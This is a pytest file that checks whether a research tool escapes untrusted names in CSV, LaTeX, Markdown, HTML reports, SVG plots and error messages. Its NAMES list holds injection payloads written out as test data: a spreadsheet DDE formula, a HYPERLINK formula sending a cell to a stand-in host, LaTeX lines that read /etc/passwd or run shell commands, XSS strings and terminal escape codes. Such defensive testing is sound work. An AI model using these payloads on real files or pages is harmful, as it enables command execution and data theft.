"""Names that are code for whatever shows them: spreadsheets, LaTeX, Markdown, HTML, SVG, matplotlib and terminals."""

import csv
import io
import json
import os
import re
import xml.etree.ElementTree as ET
from dataclasses import replace
from html.parser import HTMLParser

import pytest
import torch

from relumt.analysis.attention_maps import SentenceMaps
from relumt.analysis.plots import draw_maps, save_figure
from relumt.analysis.record import AnalysisFile
from relumt.analysis.report import write_report
from relumt.errors import UserError, as_user_error, exit_on_user_error, printable
from relumt.papers.rendering import FORMATS, RenderedTable
from tests.papers.cases import analysis

pytestmark = pytest.mark.attack("injection")

NAMES = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "＝1+1",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x?"&A1)',
    '"=1+1',
    "a,=1+1",
    "a;=1+1",
    'a","=1+1',
    "-inf",
    "a\n=1+1",
    "a\r\n\r\n=1+1",
    "a\u2028=1+1",
    "a\n\\input{/etc/passwd}",
    "a\r\\write18{touch CANARY}",
    "\\input{/etc/passwd}",
    "\\write18{touch CANARY}",
    "\\\\[1000pt]",
    "*",
    "[b]",
    "$x$",
    "$\\frac",
    "^^M\\input x",
    "}{\\catcode`\\%=11",
    "a%b#c&d_e~f",
    "a|b",
    "a\\|b",
    "a\\",
    "a\n| b | c |",
    "a\n\n<script>alert(1)</script>",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<!--",
    "![x](http://x/y.png)",
    "[x](javascript:alert(1))",
    "`a`",
    "{{ 7*7 }}",
    "{% raw %}",
    "a\x1b[2J\x1b]0;b\x07",
    "a\x00b",
    "a\x9b31m",
    "a\u202egnp.b",
    os.fsdecode(b"a\xff\xfeb"),
    "]]>",
    "&lt;&amp;",
    "_a",
    "",
]

MARKUP = [name for name in NAMES if set("<&{`") & set(name)]
LABELS = [*(name for name in NAMES if set("$<&\x1b") & set(name)), os.fsdecode(b"a\xff")]

CONTROLS = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\ud800-\udfff]")


def table_with(name: str) -> RenderedTable:
    return RenderedTable(f"x {name}", ["", name], [[name, "-0.50 ± 0.10"], ["b", name]], [f"note: {name}"])


@pytest.mark.parametrize("name", NAMES)
def test_names_in_tables(attack, name):
    for form, to_text in FORMATS.items():
        text = to_text(table_with(name))
        attack.outcomes.append("handled")
        assert not CONTROLS.search(text)
        {"csv": check_csv, "latex": check_latex, "markdown": check_markdown}[form](text.split("\n"))


def check_csv(lines):
    caption, *table, note = lines
    assert caption.startswith("# x ") and note.startswith("# note: ")
    for separator in ",;":
        for row in csv.reader([caption, note], delimiter=separator):
            assert not any(is_formula(cell) for cell in row[1:])
    rows = list(csv.reader(io.StringIO("\n".join(table))))
    assert [len(row) for row in rows] == [2, 2, 2] and not any(is_formula(cell) for row in rows for cell in row)
    assert rows[1][1] == "-0.50 ± 0.10"


def is_formula(cell: str) -> bool:
    return (
        cell.strip()[:1] in tuple("=+@＝＋－＠-") and cell.strip() not in ("-", "-0.50 ± 0.10") and cell.strip() != ""
    )


def check_latex(lines):
    caption, *table, note = lines
    assert caption.startswith("% x ") and note.startswith("% note: ") and len(table) == 8
    for row in (table[2], *table[4:6]):
        cells = row.removesuffix(r"\\")
        assert row.endswith(r"\\") and len(re.findall(r"(?<!\\)&", cells)) == 1
        commands = set(re.findall(r"\\[a-zA-Z]+", cells))
        assert commands <= {r"\textbackslash", r"\textasciitilde", r"\ensuremath"}
        assert not re.search(r"(?<!\\)[#%$]|(?<!\\)\^|\\\\", cells) and not re.match(r"\s*[\[*]", cells)
        assert cells.count("{") == cells.count("}")


def check_markdown(lines):
    assert len(lines) == 8 and lines[0].startswith("**x ") and lines[-1].startswith("- note: ")
    for line in lines[2:6]:
        assert len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) == 3
    assert not re.search(r"<[a-zA-Z/!?]|\]\(", "\n".join(lines))


@pytest.mark.parametrize(
    "number", ["1", "-0.5", "+0.50", "-1.5 ± 0.2", "-", "1e-05", "-3e+20", "2,001,408", "0.9 (0.8–1)"]
)
def test_numbers_stay_numbers_in_csv(attack, number):
    row = FORMATS["csv"](RenderedTable("x", ["a"], [[number]])).split("\n")[2]
    attack.outcomes.append("handled")
    assert row.replace(",", "") == number.replace(",", "")


@pytest.mark.parametrize("name", NAMES)
def test_names_in_errors_stay_on_one_line(attack, name, capfd):
    for error in (UserError(f"{name}: no such file"), FileNotFoundError(2, "No such file", f"{name}x")):
        with pytest.raises(SystemExit), exit_on_user_error():
            raise error
        printed = capfd.readouterr().err
        attack.outcomes.append("handled")
        assert printed.count("\n") == 1 and printed.startswith("relumt: error: ") and not CONTROLS.search(printed)


def test_long_names_are_cut_in_errors(attack):
    attack.outcomes.append("handled")
    assert len(str(as_user_error(OSError(36, "File name too long", "a" * 5000)))) < 400


class Scripts(HTMLParser):
    """Collects elements and their attributes outside of scripts."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attributes):
        self.found.append((tag, sorted(attributes)))


def elements(page: str):
    parser = Scripts()
    parser.feed(page)
    return parser.found


def report_on(names, folder):
    """Write a report in which everything that comes from outside has these names, as `relumt analyze` prints them."""
    names = [printable(name) for name in names]
    maps = {"cross.0": torch.rand(2, len(names), len(names))}
    sentence = SentenceMaps(0, names, names, names, maps, {"cross.0": "cross"})
    checkpoints = [replace(analysis(), name=name, path=name, data=name) for name in names]
    path = write_report(AnalysisFile("".join(names), checkpoints), [[sentence]] * len(names), folder)
    return path.read_text()


def test_names_in_reports(attack):
    attack.outcomes += ["handled"] * len(MARKUP)
    page = report_on(MARKUP, attack.folder)
    assert elements(page) == elements(report_on([f"name {n}" for n in range(len(MARKUP))], attack.folder))
    for found in re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', page, re.DOTALL):
        json.loads(found)
    figure = json.loads(re.search(r'id="data-sparsity">(.*?)</script>', page, re.DOTALL)[1])
    assert not any(re.search("<[a-z!/]", trace["name"]) for trace in figure["data"])


def test_names_in_plots(attack):
    attack.outcomes += ["handled"] * len(LABELS)
    weights = {"a": torch.rand(1, len(LABELS), len(LABELS))}
    sentence = SentenceMaps(0, LABELS, LABELS, LABELS, weights, {"a": "cross"})
    save_figure(draw_maps({LABELS[0]: [sentence]})["maps"], attack.folder, "maps")
    tree = ET.fromstring((attack.folder / "maps.svg").read_bytes())
    assert not [node for node in tree.iter() if node.tag.rpartition("}")[2] == "script"]


def test_a_plot_over_a_folder(attack):
    from matplotlib.figure import Figure

    (attack.folder / "plot.svg").mkdir()
    with pytest.raises(IsADirectoryError):  # which commands print in one line
        attack.reads(save_figure, Figure(), attack.folder, "plot")
    attack.outcomes.append("refused")
